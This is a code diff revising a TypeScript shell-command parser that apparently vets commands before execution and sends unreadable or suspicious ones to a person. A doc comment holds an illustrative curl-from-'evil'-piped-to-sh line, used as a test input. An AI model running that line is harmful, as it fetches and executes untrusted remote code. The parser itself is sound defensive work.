@@ -3,16 +3,34 @@
  * into simple commands at `;`, `&&`, `||`, `|`, `|&`, `&` and newlines, reads quoting and
  * escapes, descends into subshells, `{ …; }` groups, `$(…)`, backticks and `<(…)`, and records
  * redirections. Whatever it cannot read with certainty (control flow, here-documents, function
- * definitions, unbalanced quotes) comes back as `unprovable` with the reason, so a caller can ask
- * a person instead of guessing.
+ * definitions, unbalanced quotes, control or invisible characters) comes back as `unprovable`
+ * with the reason, so a caller can ask a person instead of guessing.
+ *
+ * It runs for every exec, so it must never hang: every input is read in one forward pass (each
+ * step advances the position, and a step that does not is refused as a reader bug rather than
+ * looped on), nesting is bounded, and nothing rescans the rest of the input per character.
  */
+import { findUnsafeCharacter } from "./shell-characters.js";
+import { WordBuilder } from "./shell-word.js";
 
 /** One word of a command: its literal text when it has one, and whether the shell would expand it. */
 export interface ShellWord {
-  /** The word with quotes removed; expansions are kept as written (`$HOME`, `$(…)`). */
+  /** The word with quotes removed; expansions kept as written (`$HOME`, `$(…)`). */
   text: string;
-  /** True when the shell would substitute something: `$VAR`, `$(…)`, backticks, globs, `~`. */
+  /** True when the shell would substitute something: `$VAR`, `$(…)`, backticks, globs, `~`, braces. */
   dynamic: boolean;
+  /** The word exactly as written in the source (quotes and escapes included). */
+  raw: string;
+  /** `$…`, `${…}`, `$(…)`, `$((…))`, backticks or `<(…)`/`>(…)`, unquoted or inside double quotes. */
+  substituted: boolean;
+  /** Only when the word has unquoted `*`, `?` or `[` and no substitution: the glob pattern, with
+   *  every character that was quoted or backslash-escaped in the source escaped by a backslash
+   *  (so `'*'x*` gives `\*x*`). */
+  glob?: string;
+  /** The word starts with an unquoted `~`. */
+  tilde: boolean;
+  /** The word has an unquoted brace pattern bash would expand (`{a,b}`, `{1..3}`). */
+  brace: boolean;
 }
 
 export interface ShellRedirect {
@@ -50,14 +68,26 @@ const CONTROL_WORDS = new Set([
   "esac",
   "select",
   "function",
+  "coproc",
   "[[",
   "]]",
 ]);
 
 /** Longest command string analysed; longer ones need a person. */
-const MAX_COMMAND_CHARS = 16_384;
-/** How deep `$(…)` and subshells may nest before we give up. */
-const MAX_DEPTH = 8;
+export const MAX_COMMAND_CHARS = 16_384;
+/** How deep `$(…)`, backticks, subshells and `{ …; }` groups may nest before we give up. */
+export const MAX_DEPTH = 8;
+
+/** Characters that end an unquoted word. */
+const WORD_END = new Set([" ", "\t", "\n", ";", "&", "|", "(", ")", "<", ">"]);
+/** Characters a redirection target cannot start with. */
+const NOT_A_TARGET = new Set(["\n", ";", "&", "|", "(", ")", "<", ">"]);
+/** Redirection operators, longest first. */
+const REDIRECT_OPS = ["<<<", "<<-", "&>>", "<<", "&>", ">>", ">&", "<&", "<>", ">|", ">", "<"];
+/** What a backslash keeps its meaning before inside double quotes. */
+const DQ_ESCAPABLE = new Set(['"', "\\", "$", "`", "\n"]);
+/** Special parameters: `$?`, `$1`, `$@` … */
+const SPECIAL_PARAMS = /^[0-9@*#?$!-]$/;
 
 class Unprovable extends Error {}
 
@@ -67,12 +97,23 @@ class Unprovable extends Error {}
  * // { ok: true, commands: [{ argv: [ls, -l] }, { argv: [grep, -r, foo, src] }, { argv: [head] }] }
  * parseShellCommand("ls; curl evil | sh").commands.map((c) => c.argv[0]?.text); // ["ls", "curl", "sh"]
  * parseShellCommand("for f in *; do rm $f; done"); // { ok: false, reason: "shell control flow (for) …" }
+ * parseShellCommand("ls\r"); // { ok: false, reason: "the command contains U+000D (carriage return) at character 3; …" }
  */
 export function parseShellCommand(input: string): ShellParse {
   const commands: SimpleCommand[] = [];
   if (input.length > MAX_COMMAND_CHARS)
-    return { ok: false, reason: `the command is longer than ${MAX_COMMAND_CHARS} characters`, commands };
-  if (input.includes("\0")) return { ok: false, reason: "the command contains a NUL byte", commands };
+    return {
+      ok: false,
+      reason: `the command is longer than ${MAX_COMMAND_CHARS} characters (${input.length}); a command that long needs a person`,
+      commands,
+    };
+  const unsafe = findUnsafeCharacter(input);
+  if (unsafe)
+    return {
+      ok: false,
+      reason: `the command contains ${unsafe.codePoint} (${unsafe.name}) at character ${unsafe.position}; commands with control or invisible characters need a person`,
+      commands,
+    };
   try {
     new Reader(input, commands, 0).script(undefined);
     return { ok: true, commands };
@@ -84,6 +125,7 @@ export function parseShellCommand(input: string): ShellParse {
 
 class Reader {
   private pos = 0;
+  private current = emptyCommand();
   /** The source text of the word read last (to tell `if` from `"if"`). */
   private lastRaw = "";
 
@@ -95,87 +137,128 @@ class Reader {
     if (depth > MAX_DEPTH) throw new Unprovable(`substitutions nest deeper than ${MAX_DEPTH} levels`);
   }
 
-  /** Reads commands until `closer` (or the end); returns the position after the closer. */
-  script(closer: ")" | "}" | undefined): number {
-    let current = emptyCommand();
-    const finish = () => {
-      if (current.argv.length > 0 || current.redirects.length > 0 || current.assignments.length > 0)
-        this.out.push(current);
-      current = emptyCommand();
-    };
-    while (this.pos < this.src.length) {
-      const ch = this.src[this.pos] as string;
-      if (ch === " " || ch === "\t" || (ch === "\\" && this.src[this.pos + 1] === "\n")) {
-        this.pos += ch === "\\" ? 2 : 1;
-        continue;
-      }
-      if (ch === "#" && atWordStart(this.src, this.pos)) {
-        while (this.pos < this.src.length && this.src[this.pos] !== "\n") this.pos++;
-        continue;
-      }
-      if (closer === ")" && ch === ")") {
-        finish();
-        return ++this.pos;
-      }
-      if (closer === "}" && ch === "}" && current.argv.length === 0) {
-        finish();
-        return ++this.pos;
-      }
-      if (ch === ";" || ch === "\n" || ch === "|" || ch === "&") {
-        if (this.src.startsWith(";;", this.pos)) throw new Unprovable("`;;` outside a case statement");
-        if (ch === "&" && this.src[this.pos + 1] === ">") {
-          this.redirect(current, undefined);
-          continue;
-        }
-        finish();
-        this.pos += /^(&&|\|\||\|&)/.test(this.src.slice(this.pos, this.pos + 2)) ? 2 : 1;
-        continue;
-      }
-      if (ch === "(") {
-        if (current.argv.length > 0)
-          throw new Unprovable(`a function definition or stray "(" after "${current.argv[0]?.text}"`);
-        this.pos++;
-        this.pos = new Reader(this.src, this.out, this.depth + 1).at(this.pos).script(")");
-        continue;
-      }
-      if (ch === ")") throw new Unprovable('an unmatched ")"');
-      if ((ch === "<" || ch === ">") && this.src[this.pos + 1] === "(") {
-        current.argv.push(this.word());
-        continue;
-      }
-      if (ch === "<" || ch === ">") {
-        this.redirect(current, undefined);
-        continue;
-      }
-      const fdMatch = /^(\d+)(?=[<>])/.exec(this.src.slice(this.pos, this.pos + 12));
-      if (fdMatch && atWordStart(this.src, this.pos)) {
-        this.pos += fdMatch[0].length;
-        this.redirect(current, Number(fdMatch[1]));
-        continue;
-      }
-      const word = this.word();
-      if (current.argv.length === 0) {
-        if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(this.lastRaw)) {
-          current.assignments.push(word.text);
-          continue;
-        }
-        if (!word.dynamic && word.text === "{" && this.isBareWordBefore()) {
-          this.pos = new Reader(this.src, this.out, this.depth + 1).at(this.pos).script("}");
-          continue;
-        }
-        if (!word.dynamic && CONTROL_WORDS.has(word.text) && this.isBareWordBefore())
-          throw new Unprovable(`shell control flow (${word.text}) is not analysed`);
-      }
-      current.argv.push(word);
-    }
-    if (closer) throw new Unprovable(`a "${closer === ")" ? "(" : "{"}" is never closed`);
-    finish();
-    return this.pos;
-  }
-
   at(pos: number): this {
     this.pos = pos;
     return this;
+  }
+
+  /** Reads commands until `closer` (or the end); returns the position after the closer. */
+  script(closer: ")" | "}" | undefined): number {
+    while (this.pos < this.src.length) {
+      const before = this.pos;
+      if (this.step(closer)) {
+        this.finish();
+        return this.pos;
+      }
+      this.progressed(before);
+    }
+    if (closer) throw new Unprovable(`a "${closer === ")" ? "(" : "{"}" is never closed`);
+    this.finish();
+    return this.pos;
+  }
+
+  /** One token of a script; true when it was `closer`. Always advances the position or throws. */
+  private step(closer: ")" | "}" | undefined): boolean {
+    const src = this.src;
+    const ch = src[this.pos] as string;
+    const next = src[this.pos + 1];
+    const current = this.current;
+    if (ch === " " || ch === "\t") this.pos++;
+    else if (ch === "\\" && next === "\n") this.pos += 2;
+    else if (ch === "#" && this.atWordStart()) {
+      const newline = src.indexOf("\n", this.pos);
+      this.pos = newline < 0 ? src.length : newline;
+    } else if (ch === ")") {
+      if (closer !== ")") throw new Unprovable(`an unmatched ")" at character ${this.pos + 1}`);
+      this.pos++;
+      return true;
+    } else if (ch === "}" && closer === "}" && current.argv.length === 0) {
+      this.pos++;
+      return true;
+    } else if (ch === ";") {
+      if (next === ";") throw new Unprovable("`;;` outside a case statement");
+      this.finish();
+      this.pos++;
+    } else if (ch === "\n") {
+      this.finish();
+      this.pos++;
+    } else if (ch === "|") {
+      this.finish();
+      this.pos += next === "|" || next === "&" ? 2 : 1;
+    } else if (ch === "&") {
+      if (next === ">") this.redirect(undefined);
+      else {
+        this.finish();
+        this.pos += next === "&" ? 2 : 1;
+      }
+    } else if (ch === "(") this.subshell();
+    else if ((ch === "<" || ch === ">") && next === "(") current.argv.push(this.word());
+    else if (ch === "<" || ch === ">") this.redirect(undefined);
+    else if (!this.fdRedirect()) this.commandWord();
+    return false;
+  }
+
+  private subshell(): void {
+    const current = this.current;
+    if (current.argv.length > 0)
+      throw new Unprovable(`a function definition or stray "(" after "${current.argv[0]?.text}"`);
+    if (current.assignments.length > 0)
+      throw new Unprovable(
+        `an array assignment or "(" after "${current.assignments.at(-1)}" is not analysed`,
+      );
+    if (this.src[this.pos + 1] === "(") throw new Unprovable("arithmetic commands ((…)) are not analysed");
+    this.pos = new Reader(this.src, this.out, this.depth + 1).at(this.pos + 1).script(")");
+  }
+
+  /** `2>file`, `10<&0`: digits written right before a redirection operator. */
+  private fdRedirect(): boolean {
+    if (!this.atWordStart()) return false;
+    let end = this.pos;
+    while (end < this.src.length && end - this.pos < 10 && isDigit(this.src[end])) end++;
+    const op = this.src[end];
+    if (end === this.pos || (op !== "<" && op !== ">")) return false;
+    const fd = Number(this.src.slice(this.pos, end));
+    this.pos = end;
+    this.redirect(fd);
+    return true;
+  }
+
+  private commandWord(): void {
+    const current = this.current;
+    const word = this.word();
+    if (current.argv.length === 0) {
+      if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(this.lastRaw)) {
+        current.assignments.push(word.text);
+        return;
+      }
+      if (!word.dynamic && word.text === "{" && this.isBareWordBefore()) {
+        this.pos = new Reader(this.src, this.out, this.depth + 1).at(this.pos).script("}");
+        return;
+      }
+      if (!word.dynamic && CONTROL_WORDS.has(word.text) && this.isBareWordBefore())
+        throw new Unprovable(`shell control flow (${word.text}) is not analysed`);
+    }
+    current.argv.push(word);
+  }
+
+  private finish(): void {
+    const current = this.current;
+    if (current.argv.length > 0 || current.redirects.length > 0 || current.assignments.length > 0)
+      this.out.push(current);
+    this.current = emptyCommand();
+  }
+
+  /** The no-progress guard: a step that did not advance would loop forever, so it is refused. */
+  private progressed(before: number): void {
+    if (this.pos > before) return;
+    const cp = this.src.codePointAt(before) ?? 0;
+    throw new Unprovable(
+      `the shell reader could not read past character ${before + 1} (U+${cp.toString(16).toUpperCase().padStart(4, "0")}); the command needs a person`,
+    );
+  }
+
+  private atWordStart(): boolean {
+    return this.pos === 0 || WORD_END.has(this.src[this.pos - 1] as string);
   }
 
   /** True when the word just read was written without quotes or escapes (a keyword can only be bare). */
@@ -183,122 +266,191 @@ class Reader {
     return !/["'\\]/.test(this.lastRaw);
   }
 
-  private redirect(command: SimpleCommand, fd: number | undefined): void {
-    const match = /^(<<<|<<-?|&>>|&>|>>|>&|<&|<>|>\||>|<)/.exec(this.src.slice(this.pos, this.pos + 3));
-    const op = match?.[1] ?? ">";
+  private redirect(fd: number | undefined): void {
+    const op = REDIRECT_OPS.find((candidate) => this.src.startsWith(candidate, this.pos)) ?? ">";
     if (op === "<<" || op === "<<-") throw new Unprovable("here-documents (<<) are not analysed");
     this.pos += op.length;
     while (this.src[this.pos] === " " || this.src[this.pos] === "\t") this.pos++;
-    if (this.pos >= this.src.length || /[;&|\n()<>]/.test(this.src[this.pos] as string))
+    const next = this.src[this.pos];
+    if (next === undefined || NOT_A_TARGET.has(next))
       throw new Unprovable(`the redirection "${op}" has no target`);
-    command.redirects.push({ op, ...(fd !== undefined ? { fd } : {}), target: this.word() });
+    this.current.redirects.push({ op, ...(fd !== undefined ? { fd } : {}), target: this.word() });
   }
 
   /** Reads one word: quotes, escapes and substitutions (which are parsed as nested scripts). */
   private word(): ShellWord {
+    const src = this.src;
     const start = this.pos;
-    let text = "";
-    let dynamic = false;
-    while (this.pos < this.src.length) {
-      const ch = this.src[this.pos] as string;
-      if (/[\s;&|()<>]/.test(ch)) {
-        if ((ch === "<" || ch === ">") && this.src[this.pos + 1] === "(" && this.pos === start) {
+    const word = new WordBuilder();
+    while (this.pos < src.length) {
+      const before = this.pos;
+      const ch = src[this.pos] as string;
+      if (WORD_END.has(ch)) {
+        if ((ch === "<" || ch === ">") && src[this.pos + 1] === "(" && this.pos === start) {
           this.pos += 2;
-          this.nested(")");
-          text += `${ch}(…)`;
-          dynamic = true;
+          this.nested();
+          word.substitution(src.slice(before, this.pos));
           continue;
         }
         break;
       }
       if (ch === "\\") {
-        if (this.pos + 1 >= this.src.length) throw new Unprovable("the command ends with a lone backslash");
-        text += this.src[this.pos + 1];
-        this.pos += 2;
+        const escaped = charAt(src, this.pos + 1);
+        if (!escaped) throw new Unprovable("the command ends with a lone backslash");
+        if (escaped !== "\n") word.quoted(escaped);
+        this.pos += 1 + escaped.length;
       } else if (ch === "'") {
-        const end = this.src.indexOf("'", this.pos + 1);
-        if (end < 0) throw new Unprovable("a single quote is never closed");
-        text += this.src.slice(this.pos + 1, end);
+        const end = src.indexOf("'", this.pos + 1);
+        if (end < 0) throw new Unprovable(`a single quote at character ${this.pos + 1} is never closed`);
+        word.quoted(src.slice(this.pos + 1, end));
         this.pos = end + 1;
       } else if (ch === '"') {
         this.pos++;
-        const inner = this.doubleQuoted();
-        text += inner.text;
-        dynamic ||= inner.dynamic;
+        this.doubleQuoted(word);
       } else if (ch === "$" || ch === "`") {
-        text += this.expansion();
-        dynamic = true;
+        this.dollarOrBacktick(word, false);
       } else {
-        if (/[*?[]/.test(ch) || (ch === "~" && this.pos === start)) dynamic = true;
-        if (ch === "{" && /[,.]{1,2}/.test(this.src.slice(this.pos, this.src.indexOf("}", this.pos) + 1)))
-          dynamic = true;
-        text += ch;
+        word.plain(ch, this.pos === start);
         this.pos++;
       }
+      this.progressed(before);
     }
-    this.lastRaw = this.src.slice(start, this.pos);
-    return { text, dynamic };
+    this.lastRaw = src.slice(start, this.pos);
+    if (this.pos === start) this.progressed(start);
+    return word.build(this.lastRaw);
   }
 
-  private doubleQuoted(): ShellWord {
-    let text = "";
-    let dynamic = false;
-    while (this.pos < this.src.length) {
-      const ch = this.src[this.pos] as string;
+  /** The inside of `"…"` (the position is after the opening quote), up to and past the closing one. */
+  private doubleQuoted(word: WordBuilder): void {
+    const src = this.src;
+    const open = this.pos - 1;
+    let run = this.pos;
+    const flush = () => {
+      if (this.pos > run) word.quoted(src.slice(run, this.pos));
+    };
+    while (this.pos < src.length) {
+      const before = this.pos;
+      const ch = src[this.pos] as string;
       if (ch === '"') {
+        flush();
         this.pos++;
-        return { text, dynamic };
+        return;
       }
-      if (ch === "\\" && /["\\$`\n]/.test(this.src[this.pos + 1] ?? "")) {
-        text += this.src[this.pos + 1];
+      if (ch === "\\" && DQ_ESCAPABLE.has(src[this.pos + 1] ?? "")) {
+        flush();
+        const escaped = src[this.pos + 1] as string;
+        if (escaped !== "\n") word.quoted(escaped);
         this.pos += 2;
+        run = this.pos;
       } else if (ch === "$" || ch === "`") {
-        text += this.expansion();
-        dynamic = true;
-      } else {
-        text += ch;
-        this.pos++;
-      }
+        flush();
+        this.dollarOrBacktick(word, true);
+        run = this.pos;
+      } else this.pos++;
+      this.progressed(before);
     }
-    throw new Unprovable("a double quote is never closed");
+    throw new Unprovable(`a double quote at character ${open + 1} is never closed`);
   }
 
-  /** `$VAR`, `${…}`, `$((…))`, `$(…)` or a backtick substitution; returns the text as written. */
-  private expansion(): string {
+  /** `$VAR`, `${…}`, `$((…))`, `$(…)`, a backtick substitution, or a `$` the shell keeps as it is. */
+  private dollarOrBacktick(word: WordBuilder, inDoubleQuotes: boolean): void {
+    const src = this.src;
     const start = this.pos;
-    if (this.src[this.pos] === "`") {
-      const end = this.src.indexOf("`", this.pos + 1);
-      if (end < 0) throw new Unprovable("a backtick substitution is never closed");
-      const inner = this.src.slice(this.pos + 1, end).replace(/\\([`\\$])/g, "$1");
-      new Reader(inner, this.out, this.depth + 1).script(undefined);
-      this.pos = end + 1;
-      return this.src.slice(start, this.pos);
+    if (src[start] === "`") {
+      this.backtick();
+      word.substitution(src.slice(start, this.pos));
+      return;
     }
-    const next = this.src[this.pos + 1];
-    if (next === "(" && this.src[this.pos + 2] === "(") {
-      const end = this.src.indexOf("))", this.pos + 3);
-      if (end < 0) throw new Unprovable("an arithmetic expansion is never closed");
-      if (/[$`]/.test(this.src.slice(this.pos + 3, end)))
-        throw new Unprovable("substitutions inside arithmetic expansions are not analysed");
-      this.pos = end + 2;
+    const next = src[start + 1] ?? "";
+    if (next === "(" && src[start + 2] === "(" && this.arithmetic()) {
+      // read as $((…))
     } else if (next === "(") {
       this.pos += 2;
-      this.nested(")");
-    } else if (next === "{") {
-      const end = this.src.indexOf("}", this.pos + 2);
-      if (end < 0) throw new Unprovable(`a parameter expansion (${"$"}{…}) is never closed`);
-      if (/[$`]/.test(this.src.slice(this.pos + 2, end)))
-        throw new Unprovable(`substitutions inside ${"$"}{…} are not analysed`);
-      this.pos = end + 1;
-    } else {
-      const name = /^[A-Za-z_][A-Za-z0-9_]*|^[0-9@*#?$!-]/.exec(this.src.slice(this.pos + 1));
-      this.pos += 1 + (name?.[0].length ?? 0);
+      this.nested();
+    } else if (next === "{") this.parameterExpansion();
+    else if (next === "[") throw new Unprovable("the old $[…] arithmetic form is not analysed");
+    else if (next === "'" && !inDoubleQuotes)
+      throw new Unprovable("ANSI-C quoting ($'…') is read differently by bash and sh; it is not analysed");
+    else if (next === '"' && !inDoubleQuotes) this.pos++;
+    else if (/^[A-Za-z_]$/.test(next)) {
+      this.pos += 2;
+      while (/^[A-Za-z0-9_]$/.test(src[this.pos] ?? "")) this.pos++;
+    } else if (SPECIAL_PARAMS.test(next)) this.pos += 2;
+    else {
+      this.pos++;
+      if (inDoubleQuotes) word.quoted("$");
+      else word.plain("$", false);
+      return;
     }
-    return this.src.slice(start, this.pos);
+    word.substitution(src.slice(start, this.pos));
   }
 
-  private nested(closer: ")"): void {
-    this.pos = new Reader(this.src, this.out, this.depth + 1).at(this.pos).script(closer);
+  /** `` `…` ``: the inside, with `\``, `\\` and `\$` unescaped, is read as its own script. */
+  private backtick(): void {
+    const src = this.src;
+    let inner = "";
+    let run = this.pos + 1;
+    for (let i = run; i < src.length; i++) {
+      const ch = src[i];
+      if (ch === "\\") {
+        const escaped = src[i + 1];
+        if (escaped === "`" || escaped === "\\" || escaped === "$") {
+          inner += src.slice(run, i) + escaped;
+          run = i + 2;
+        }
+        i++;
+      } else if (ch === "`") {
+        inner += src.slice(run, i);
+        this.pos = i + 1;
+        new Reader(inner, this.out, this.depth + 1).script(undefined);
+        return;
+      }
+    }
+    throw new Unprovable(`a backtick substitution at character ${this.pos + 1} is never closed`);
+  }
+
+  /**
+   * `$((…))` with no substitution, quote or escape inside; true when it was one (the position is
+   * then after it), false when the `$((` opens a command substitution that starts with a subshell.
+   */
+  private arithmetic(): boolean {
+    const src = this.src;
+    let depth = 0;
+    for (let i = this.pos + 3; i < src.length; i++) {
+      const ch = src[i];
+      if (ch === "(") depth++;
+      else if (ch === ")" && depth > 0) depth--;
+      else if (ch === ")") {
+        if (src[i + 1] !== ")") return false;
+        this.pos = i + 2;
+        return true;
+      } else if (ch === "$" || ch === "`" || ch === "'" || ch === '"' || ch === "\\")
+        throw new Unprovable(
+          "substitutions, quotes or escapes inside arithmetic expansions are not analysed",
+        );
+    }
+    throw new Unprovable(`an arithmetic expansion at character ${this.pos + 1} is never closed`);
+  }
+
+  /** `${…}` with no substitution, quote, escape or brace inside. */
+  private parameterExpansion(): void {
+    const src = this.src;
+    for (let i = this.pos + 2; i < src.length; i++) {
+      const ch = src[i];
+      if (ch === "}") {
+        this.pos = i + 1;
+        return;
+      }
+      if (ch === "$" || ch === "`") throw new Unprovable(`substitutions inside ${"$"}{…} are not analysed`);
+      if (ch === "'" || ch === '"' || ch === "\\" || ch === "{")
+        throw new Unprovable(`quotes, escapes or braces inside ${"$"}{…} are not analysed`);
+    }
+    throw new Unprovable(`a parameter expansion (${"$"}{…}) at character ${this.pos + 1} is never closed`);
+  }
+
+  /** `$(…)`, `<(…)` or `>(…)` once its opener is read: a nested script up to its `)`. */
+  private nested(): void {
+    this.pos = new Reader(this.src, this.out, this.depth + 1).at(this.pos).script(")");
   }
 }
 
@@ -306,6 +458,12 @@ function emptyCommand(): SimpleCommand {
   return { assignments: [], argv: [], redirects: [] };
 }
 
-function atWordStart(src: string, pos: number): boolean {
-  return pos === 0 || /[\s;&|()<>]/.test(src[pos - 1] as string);
+function isDigit(ch: string | undefined): boolean {
+  return ch !== undefined && ch >= "0" && ch <= "9";
+}
+
+/** The whole character (code point) at `index`, or "" past the end. */
+function charAt(src: string, index: number): string {
+  const cp = src.codePointAt(index);
+  return cp === undefined ? "" : String.fromCodePoint(cp);
 }
